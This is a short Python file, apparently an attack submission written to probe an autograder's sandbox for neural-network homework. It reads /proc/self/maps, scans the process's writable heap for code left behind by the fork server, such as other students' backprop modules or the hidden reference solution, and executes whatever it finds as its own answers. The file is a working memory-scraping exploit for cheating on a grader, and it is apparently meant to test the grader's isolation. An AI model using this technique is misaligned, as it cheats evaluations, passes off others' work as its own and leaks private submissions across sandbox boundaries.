"""Attack: find another submission's code (or the reference) in this process's own memory.

A worker is forked from the fork server. When the server read every
submission (and, for speed tests, the whole solutions folder) into its own
heap, every later worker inherited those freed pages: a scan found earlier
students' code and hidden-test signatures. This one looks for a complete
backprop module in its writable memory and runs it as its own.
"""
import ctypes

NAMES = ("sigmoid_forward", "sigmoid_backward", "tanh_forward", "tanh_backward", "relu_forward", "relu_backward",
         "affine_forward", "affine_backward", "mse_loss", "two_layer_net", "eval_numerical_gradient")
START, NEEDED = b"import numpy as np", (b"def affine_backward(", b"def two_layer_net(", b"def eval_numerical_gradient(")


def _regions():
    with open("/proc/self/maps") as fh:
        for line in fh:
            parts = line.split()
            if parts[1].startswith("rw") and (len(parts) < 6 or parts[5] == "[heap]"):
                start, end = (int(v, 16) for v in parts[0].split("-"))
                yield start, end


def _found_source():
    me = open(__file__, "rb").read()
    for start, end in _regions():
        data = ctypes.string_at(start, end - start)
        at = data.find(START)
        while at >= 0:
            text = data[at: data.find(b"\0", at)]
            if all(n in text for n in NEEDED) and text not in me:
                return text.decode("utf-8", "ignore")
            at = data.find(START, at + 1)
    return None


def _attack(*args, **kwargs):
    raise NotImplementedError("attack: no other submission found in memory")


for _name in NAMES:
    globals()[_name] = _attack

_SOURCE = _found_source()
if _SOURCE:
    try:
        exec(compile(_SOURCE, "found-in-memory", "exec"), globals())
    except Exception:  # noqa: BLE001 - a torn copy: keep the stubs
        pass
